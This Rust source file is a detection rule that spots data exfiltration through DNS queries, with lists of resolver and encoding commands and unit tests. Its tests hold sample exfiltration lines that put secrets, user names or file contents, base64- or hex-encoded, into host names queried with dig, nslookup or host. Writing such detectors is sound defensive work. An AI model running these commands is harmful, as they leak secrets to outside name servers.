//! Data exfiltrated in DNS queries.
//!
//! The line is in lower case.

use crate::rules::words::words;

/// Commands that query a name server.
const RESOLVERS: &[&str] = &["dig", "nslookup", "drill", "host", "resolve-dnsname"];
/// Encodings of exfiltrated data in a host name, besides variables.
const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", "printenv", "whoami"];
/// The most substitutions of a line that are checked.
const MAX_PLACES: usize = 16;

/// `dig $(cat x | base64).host.io`: data as the name of a host.
pub(super) fn queried(line: &str) -> Option<usize> {
    let at = words!(RESOLVERS).first_word(line)?;
    let rest = line.get(at..)?;
    rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
        let inner = rest.get(open + 2..)?;
        let close = inner.find(')')?;
        let host = inner.get(close + 1..)?.trim_start_matches('"').strip_prefix('.')?;
        let carried = inner.get(..close)?;
        let named = host.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '$');
        (named && (carried.contains('$') || words!(CARRIED).are_in(carried))).then_some(at)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn data_in_a_host_name_is_found() {
        for line in [
            "dig @1.2.3.4 $(echo $secret | base64).x.dev",
            "nslookup \"$(whoami)\".x.dev",
            "host $(cat x | xxd -p).x.dev",
        ] {
            assert!(queried(line).is_some(), "{line}");
        }
        for line in
            ["dig +short x.dev", "dig $(terraform output name).x.dev", "host $(hostname)", "nslookup $(cat hosts.txt)"]
        {
            assert_eq!(queried(line), None, "{line}");
        }
    }
}
